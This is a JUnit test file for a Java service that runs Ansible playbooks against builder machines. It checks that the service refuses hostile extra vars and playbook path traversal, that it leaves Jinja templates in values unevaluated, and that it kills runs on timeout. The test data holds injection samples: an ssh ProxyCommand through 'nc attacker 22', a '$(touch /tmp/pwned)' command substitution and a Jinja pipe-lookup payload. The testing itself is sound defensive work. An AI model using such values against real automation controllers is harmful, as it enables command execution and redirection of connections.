package dev.goldsmith.configurator.configuring;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import java.io.IOException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Clock;
import java.time.Duration;
import java.util.ArrayList;
import java.util.Collections;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.UUID;
import java.util.concurrent.atomic.AtomicInteger;

import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;

import dev.goldsmith.configurator.TestSpecs;
import dev.goldsmith.configurator.ansible.AddressSelector;
import dev.goldsmith.configurator.ansible.PlaybookExecutor;
import dev.goldsmith.configurator.ansible.PlaybookRunner;
import dev.goldsmith.configurator.ansible.RunCancelledException;
import dev.goldsmith.events.BuilderConfigured;
import dev.goldsmith.events.BuilderConfigured.Outcome;
import dev.goldsmith.events.BuilderReady;
import dev.goldsmith.events.NetworkMode;
import dev.goldsmith.support.ssh.SshKeyFile;
import dev.goldsmith.support.ssh.SshKeyFiles;

/**
 * The configurator's domain logic with the real ansible-playbook, on playbooks that only run on the
 * controller ({@code connection: local}), so nothing is contacted.
 */
class BuilderConfiguratorTest {
  @TempDir Path tmp;

  private Path ansibleDir;
  private SshKeyFile key;
  private final AtomicInteger runs = new AtomicInteger();
  private final List<String> lines = Collections.synchronizedList(new ArrayList<>());

  @BeforeEach
  void setUp() throws Exception {
    ansibleDir = tmp.resolve("ansible");
    Files.createDirectories(ansibleDir);
    for (String f :
        List.of(
            "ansible.cfg", "local-fail.yml", "local-ok.yml", "local-sleep.yml", "ssh-ping.yml")) {
      try (var in = getClass().getResourceAsStream("/local-ansible/" + f)) {
        Files.copy(in, ansibleDir.resolve(f));
      }
    }
    key =
        SshKeyFiles.loadOrGenerate(
            tmp.resolve("key/id_ed25519"),
            tmp.resolve("key/id_ed25519.pub"),
            true,
            "goldsmith-configurator-test",
            "goldsmith.configurator.ssh.generate-if-missing");
  }

  private BuilderConfigurator configurator(Duration timeout) throws IOException {
    return configurator(timeout, 22);
  }

  private PlaybookRunner runner;

  private BuilderConfigurator configurator(Duration timeout, int port) throws IOException {
    PlaybookRunner real = new PlaybookRunner(timeout, Duration.ofSeconds(2));
    runner = real;
    PlaybookExecutor counting =
        (command, dir, log, sink) -> {
          runs.incrementAndGet();
          return real.run(command, dir, log, sink);
        };
    return new BuilderConfigurator(
        new BuilderConfigurator.Settings(
            ansibleDir,
            "ansible-playbook",
            tmp.resolve("work"),
            tmp.resolve("logs"),
            tmp.resolve("cp"),
            "root",
            port,
            "image_hygiene_build_pubkeys",
            timeout),
        key,
        new AddressSelector((a, p, t) -> false, 22, Duration.ofSeconds(1)),
        counting,
        Clock.systemUTC());
  }

  private BuilderReady ready(String playbook, Map<String, Object> vars) {
    return TestSpecs.ready(
        UUID.randomUUID(), TestSpecs.spec(playbook, vars, NetworkMode.IPV4), 7L, "127.0.0.1", null);
  }

  @Test
  void hostileExtraVarsAreRefusedBeforeAnythingRuns() throws Exception {
    Map<String, Object> vars = new LinkedHashMap<>();
    vars.put("ansible_ssh_common_args", "-o ProxyCommand=nc attacker 22");
    vars.put("ansible_host", "198.51.100.1");
    vars.put("become_user", "nobody");
    vars.put("users_admin_name", "admin");

    var result =
        configurator(Duration.ofMinutes(1)).configure(ready("local-ok.yml", vars), lines::add);

    BuilderConfigured e = result.event();
    assertThat(result.kind()).isEqualTo(BuilderConfigurator.Kind.REFUSED);
    assertThat(e.outcome()).isEqualTo(Outcome.FAILED);
    assertThat(e.provenance()).as("nothing ran, nothing to trace").isNull();
    assertThat(e.message())
        .startsWith("extra vars refused")
        .contains("extraVars.ansible_ssh_common_args")
        .contains("extraVars.ansible_host")
        .contains("extraVars.become_user")
        .doesNotContain("users_admin_name");
    assertThat(runs).hasValue(0);
  }

  @Test
  void playbookOutsideTheAnsibleTreeIsRefused() throws Exception {
    Files.writeString(tmp.resolve("evil.yml"), "- hosts: all\n");
    var c = configurator(Duration.ofMinutes(1));
    for (String name : List.of("../evil.yml", tmp.resolve("evil.yml").toString(), "missing.yml")) {
      var result = c.configure(ready(name, Map.of()), lines::add);
      assertThat(result.event().outcome()).as(name).isEqualTo(Outcome.FAILED);
      assertThat(result.kind()).as(name).isEqualTo(BuilderConfigurator.Kind.REFUSED);
      assertThat(result.event().reasonClass()).as(name).isEqualTo(BuilderConfigured.REFUSED);
    }
    assertThat(runs).hasValue(0);
  }

  @Test
  void successfulRunPassesSpecVarsAndTheBuildKeyForHygiene() throws Exception {
    Path out = tmp.resolve("vars-seen.json");
    Map<String, Object> vars = new LinkedHashMap<>();
    vars.put("goldsmith_test_out", out.toString());
    vars.put("goldsmith_test_value", List.of("a", "b c", "$(touch /tmp/pwned)"));
    // The service's own value must win over a spec's.
    vars.put("image_hygiene_build_pubkeys", List.of("ssh-ed25519 AAAAspec"));

    var result =
        configurator(Duration.ofMinutes(2)).configure(ready("local-ok.yml", vars), lines::add);

    BuilderConfigured e = result.event();
    assertThat(e.outcome()).as(String.join("\n", lines)).isEqualTo(Outcome.OK);
    assertThat(e.changed()).isEqualTo(1);
    assertThat(e.failedTask()).isNull();
    assertThat(e.logRef()).startsWith("file:/");
    assertThat(Files.readString(Path.of(java.net.URI.create(e.logRef()))))
        .contains("TASK [Record the variables]");
    JsonNode seen = new ObjectMapper().readTree(Files.readString(out));
    assertThat(seen.path("spec").toString()).isEqualTo("[\"a\",\"b c\",\"$(touch /tmp/pwned)\"]");
    assertThat(seen.path("keys").get(0).asText()).isEqualTo(key.publicKey().keyOnly());
    assertThat(seen.path("keys")).hasSize(1);
    assertThat(lines).anyMatch(l -> l.contains("PLAY RECAP"));

    // Provenance: the temp tree is no git checkout; the digests cover the playbook and exactly
    // the variables passed, in order (the spec's, then the service's own).
    var p = e.provenance();
    assertThat(p).isNotNull();
    assertThat(p.ansibleRevision()).isEqualTo("unknown");
    assertThat(p.ansibleDirty()).isNull();
    assertThat(p.rolesSha256())
        .isEqualTo(
            dev.goldsmith.events.Digests.files(
                ansibleDir, List.of(ansibleDir.resolve("local-ok.yml"))));
    assertThat(p.extraVarsSha256())
        .isEqualTo(
            dev.goldsmith.events.Digests.sha256OfJson(
                List.of(
                    vars,
                    Map.of("image_hygiene_build_pubkeys", List.of(key.publicKey().keyOnly())))));
    assertThat(p.sourceImageId()).isNull();
    assertThat(p.reportSha256()).isNull();
  }

  @Test
  void templatedSpecValuesAreNotEvaluatedAndTheBuildsFilesArePrivate() throws Exception {
    Path out = tmp.resolve("vars-seen.json");
    Path marker = tmp.resolve("marker-" + UUID.randomUUID());
    String pipe = "{{ lookup('pipe', 'touch " + marker + "') }}";
    Map<String, Object> vars = new LinkedHashMap<>();
    vars.put("goldsmith_test_out", out.toString());
    vars.put("goldsmith_test_value", List.of(pipe, Map.of(pipe, "{% if true %}x{% endif %}")));
    BuilderReady ready = ready("local-ok.yml", vars);
    var c = configurator(Duration.ofMinutes(2));

    var result = c.configure(ready, lines::add);

    assertThat(result.event().outcome()).as(String.join("\n", lines)).isEqualTo(Outcome.OK);
    assertThat(marker).as("a lookup ran on the controller").doesNotExist();
    JsonNode seen = new ObjectMapper().readTree(Files.readString(out));
    assertThat(seen.path("spec").get(0).asText()).isEqualTo(pipe);
    assertThat(seen.path("spec").get(1).path(pipe).asText()).isEqualTo("{% if true %}x{% endif %}");
    Path dir = c.workDir(ready.buildId());
    assertThat(mode(dir)).isEqualTo("rwx------");
    assertThat(mode(dir.resolve("extra-vars.yml"))).isEqualTo("rw-------");
    assertThat(mode(dir.resolve("goldsmith-vars.json"))).isEqualTo("rw-------");
    assertThat(mode(tmp.resolve("logs").resolve(ready.buildId().toString())))
        .isEqualTo("rwx------");
    assertThat(String.join("\n", lines)).doesNotContain("--- before").doesNotContain("+++ after");
  }

  private static String mode(Path p) throws IOException {
    return java.nio.file.attribute.PosixFilePermissions.toString(Files.getPosixFilePermissions(p));
  }

  @Test
  void failingTaskYieldsFailedWithThatTasksNameAndMessage() throws Exception {
    var result =
        configurator(Duration.ofMinutes(2))
            .configure(
                ready("local-fail.yml", Map.of("goldsmith_test_reason", "unit")), lines::add);

    BuilderConfigured e = result.event();
    assertThat(e.outcome()).isEqualTo(Outcome.FAILED);
    assertThat(e.failedTask()).isEqualTo("Break the build on purpose");
    assertThat(e.reasonClass()).isEqualTo(BuilderConfigured.PLAYBOOK_FAILED);
    assertThat(e.message()).contains("failing because goldsmith_test_reason=unit");
    assertThat(e.changed()).isEqualTo(1);
  }

  @Test
  void unreachableBuilderYieldsFailedNamingTheTaskThatCouldNotConnect() throws Exception {
    int closed;
    try (java.net.ServerSocket s =
        new java.net.ServerSocket(0, 1, java.net.InetAddress.getByName("127.0.0.1"))) {
      closed = s.getLocalPort();
    }
    var c = configurator(Duration.ofMinutes(2), closed);
    var result = c.configure(ready("ssh-ping.yml", Map.of()), lines::add);

    BuilderConfigured e = result.event();
    assertThat(e.outcome()).isEqualTo(Outcome.FAILED);
    assertThat(e.failedTask()).isEqualTo("Ping the builder");
    assertThat(e.message()).startsWith("host unreachable").contains("Connection refused");
    assertThat(e.reasonClass()).isEqualTo(BuilderConfigured.BUILDER_UNREACHABLE);
    assertThat(e.changed()).isZero();
    // the pinned key was in place before ssh ran, under the [host]:port form of a non-22 port
    assertThat(Files.readString(c.workDir(e.buildId()).resolve("known_hosts")))
        .isEqualTo("[127.0.0.1]:" + closed + " " + TestSpecs.UNUSED_HOST_KEY + "\n");
  }

  @Test
  void redeliveryAfterAFinishedRunPublishesTheRecordedOutcomeWithoutRunning() throws Exception {
    var c = configurator(Duration.ofMinutes(2));
    BuilderReady ready = ready("local-fail.yml", Map.of());
    var first = c.configure(ready, lines::add);
    var again = c.configure(ready, lines::add);

    assertThat(runs).hasValue(1);
    assertThat(again.kind()).isEqualTo(BuilderConfigurator.Kind.RECORDED);
    assertThat(again.event()).isEqualTo(first.event());
  }

  @Test
  void runPastTheTimeoutIsKilledWithItsWholeProcessTree() throws Exception {
    String marker = "98765." + (System.nanoTime() % 1000);
    var result =
        configurator(Duration.ofSeconds(6))
            .configure(
                ready("local-sleep.yml", Map.of("goldsmith_test_sleep", marker)), lines::add);

    BuilderConfigured e = result.event();
    assertThat(e.outcome()).isEqualTo(Outcome.FAILED);
    assertThat(e.failedTask()).isEqualTo("Wait far too long");
    assertThat(e.message()).contains("did not finish within PT6S");
    assertThat(e.reasonClass()).isEqualTo(BuilderConfigured.PLAYBOOK_TIMEOUT);
    assertThat(
            ProcessHandle.allProcesses()
                .filter(p -> p.info().commandLine().orElse("").contains("sleep " + marker))
                .filter(ProcessHandle::isAlive)
                .toList())
        .isEmpty();
  }

  @Test
  void cancelAllKillsTheRunningTreeRecordsNoOutcomeAndRefusesNewRuns() throws Exception {
    String marker = "87654." + (System.nanoTime() % 1000);
    BuilderConfigurator c = configurator(Duration.ofMinutes(5));
    BuilderReady r = ready("local-sleep.yml", Map.of("goldsmith_test_sleep", marker));
    var run = startAndAwaitSleep(c, r, marker);

    runner.cancelAll();

    assertThatThrownBy(() -> run.get(1, java.util.concurrent.TimeUnit.MINUTES))
        .hasCauseInstanceOf(RunCancelledException.class);
    assertThat(sleeping(marker)).isEmpty();
    assertThat(c.recorded(r.buildId())).isEmpty();
    assertThatThrownBy(() -> c.configure(ready("local-ok.yml", Map.of()), lines::add))
        .isInstanceOf(RunCancelledException.class);
  }

  @Test
  void aSecondConfiguratorOnTheSameWorkDirWaitsForTheRunAndReturnsItsRecordedOutcome()
      throws Exception {
    String marker = "8." + (System.nanoTime() % 1000);
    BuilderConfigurator first = configurator(Duration.ofMinutes(2));
    BuilderConfigurator second = configurator(Duration.ofMinutes(2));
    BuilderReady r = ready("local-sleep.yml", Map.of("goldsmith_test_sleep", marker));
    var run = startAndAwaitSleep(first, r, marker);

    var again = second.configure(r, lines::add);

    var done = run.get(2, java.util.concurrent.TimeUnit.MINUTES);
    assertThat(done.kind()).isEqualTo(BuilderConfigurator.Kind.RAN);
    assertThat(again.kind()).isEqualTo(BuilderConfigurator.Kind.RECORDED);
    assertThat(again.event()).isEqualTo(done.event());
    assertThat(runs).hasValue(1);
    assertThat(lines).anyMatch(l -> l.contains("is being configured by another instance"));
  }

  /** Configures {@code r} on another thread; returns once its playbook's sleep runs. */
  private java.util.concurrent.CompletableFuture<BuilderConfigurator.Result> startAndAwaitSleep(
      BuilderConfigurator c, BuilderReady r, String marker) {
    var run =
        java.util.concurrent.CompletableFuture.supplyAsync(
            () -> {
              try {
                return c.configure(r, lines::add);
              } catch (Exception e) {
                throw new java.util.concurrent.CompletionException(e);
              }
            });
    org.awaitility.Awaitility.await()
        .atMost(Duration.ofMinutes(2))
        .pollInterval(Duration.ofMillis(100))
        .until(() -> !sleeping(marker).isEmpty());
    return run;
  }

  private static List<ProcessHandle> sleeping(String marker) {
    return ProcessHandle.allProcesses()
        .filter(p -> p.info().commandLine().orElse("").contains("sleep " + marker))
        .filter(ProcessHandle::isAlive)
        .toList();
  }
}
